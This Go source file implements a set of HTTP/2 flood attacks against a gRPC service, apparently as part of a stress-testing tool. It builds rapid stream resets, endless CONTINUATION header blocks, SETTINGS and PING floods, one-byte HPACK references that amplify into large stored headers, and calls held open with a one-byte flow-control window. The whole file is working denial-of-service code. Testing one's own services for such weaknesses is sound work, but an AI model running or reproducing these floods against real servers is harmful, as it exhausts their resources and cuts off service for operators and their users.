// Floods of frames: what HTTP/2 allows, too much of it.
package main

import (
	"bytes"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const (
	frameBytes = 16 * 1024
	// Each connects again as soon as it is closed.
	frameConnections = 10
)

// Calls that are reset at once. With a token they are of a caller with a grant.
func resets(f *flood) {
	f.attack(attack{unit: "resets", begin: func(c *connection) func() error {
		all := newBlocks(f)
		block := all.next(f.token)
		id := uint32(1)
		return func() error {
			headers := http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true}
			if err := c.WriteHeaders(headers); err != nil {
				return err
			}
			if id == 1 {
				// All of it is in the table by now, and each block the same few bytes.
				block = bytes.Clone(all.next(f.token))
			}
			id += 2
			return c.WriteRSTStream(id-2, http2.ErrCodeCancel)
		}
	}})
}

// A header block that never ends.
func continuation(f *flood) {
	var fields bytes.Buffer
	encoder := hpack.NewEncoder(&fields)
	for fields.Len() < frameBytes-100 {
		_ = encoder.WriteField(hpack.HeaderField{Name: "x", Value: "some value", Sensitive: true})
	}
	f.attack(attack{unit: "CONTINUATION frames", begin: func(c *connection) func() error {
		headers := http2.HeadersFrameParam{StreamID: 1, BlockFragment: newBlocks(f).next("")}
		if err := c.WriteHeaders(headers); err != nil {
			return func() error { return err }
		}
		return func() error { return c.WriteContinuation(1, false, fields.Bytes()) }
	}})
}

func settings(f *flood, reads bool) {
	setting := http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65_535}
	f.attack(attack{unit: "SETTINGS frames", deaf: !reads, begin: func(c *connection) func() error {
		return func() error { return c.WriteSettings(setting) }
	}})
}

func pings(f *flood, reads bool) {
	f.attack(attack{unit: "PING frames", deaf: !reads, begin: func(c *connection) func() error {
		return func() error { return c.WritePing(false, [8]byte{}) }
	}})
}

// CONTINUATION frames of a header block: nghttp2 ends a connection at the ninth.
const continuations = 8

// References of one byte each to a header of 4,000 bytes, in header blocks as long as they may be.
func headers(f *flood) {
	const reference = 0x80 | 62 // the newest entry of the dynamic table, RFC 7541 §6.1
	references := bytes.Repeat([]byte{reference}, frameBytes)
	first := pseudoHeaders(f, hpack.HeaderField{Name: "x", Value: strings.Repeat("v", 4_000)})
	later := pseudoHeaders(f)
	f.attack(attack{unit: "header blocks", begin: func(c *connection) func() error {
		block := first
		id := uint32(1)
		return func() error {
			frame := http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true}
			if err := c.WriteHeaders(frame); err != nil {
				return err
			}
			for n := range continuations {
				if err := c.WriteContinuation(id, n == continuations-1, references); err != nil {
					return err
				}
			}
			block = later
			id += 2
			return nil
		}
	}})
}

// Bytes of a header that the service keeps, and references to it in a block.
const keptBytes, blockReferences = 3_900, 12_000

// References of one byte each to a header that the service keeps. SETTINGS are never acknowledged, so no setting would keep the header out.
func references(f *flood) {
	const reference = 0x80 | 62
	kept := pseudoHeaders(f, hpack.HeaderField{Name: "x", Value: strings.Repeat("v", keptBytes)})
	f.unseen(kept, bytes.Repeat([]byte{reference}, blockReferences), false)
}

// Headers in a block, each of which is new.
const blockFields = 3_000

// Headers without a value, of four bytes each, which the service keeps: of all that a block may hold, they cost most a byte. No setting forbids them.
func fields(f *flood) {
	const literal = 0x40 // with a new name, RFC 7541 §6.2.1
	f.unseen(pseudoHeaders(f), bytes.Repeat([]byte{literal, 1, 'x', 0}, blockFields), true)
}

// A call with a token, so that the connection is a caller's. Then a block, and without end blocks with more headers than a request may have: the
// service's HTTP/2 resets their streams itself, and nothing above it sees them.
func (f *flood) unseen(first, more []byte, acknowledges bool) {
	later := append(pseudoHeaders(f), more...)
	f.attack(attack{unit: "header blocks", acknowledges: acknowledges, calls: true, begin: func(c *connection) func() error {
		id := uint32(3)
		block := first
		return func() error {
			frame := http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true}
			if err := c.WriteHeaders(frame); err != nil {
				return err
			}
			block = later
			id += 2
			return nil
		}
	}})
}

// A call's headers, none of which enters the dynamic table, and others behind them.
func pseudoHeaders(f *flood, others ...hpack.HeaderField) []byte {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	all := []hpack.HeaderField{
		{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "https"},
		{Name: ":path", Value: f.method, Sensitive: true}, {Name: ":authority", Value: f.grpc, Sensitive: true},
	}
	for _, field := range append(all, others...) {
		_ = encoder.WriteField(field)
	}
	return block.Bytes()
}

// Streams at a time that a connection may have.
const streams = 100

const windowConnections = 100

// Calls whose answers get room for one byte, and never more. They come at a pace, as so many at once would be a load of their own.
func window(f *flood) {
	one := http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1}
	f.calls(callsAttack{
		connections: windowConnections, settings: []http2.Setting{one}, unit: "calls with a window of 1",
		message: f.message(), token: func() string { return f.token },
		rate: f.ratePerConnection(1_000, windowConnections),
	})
}
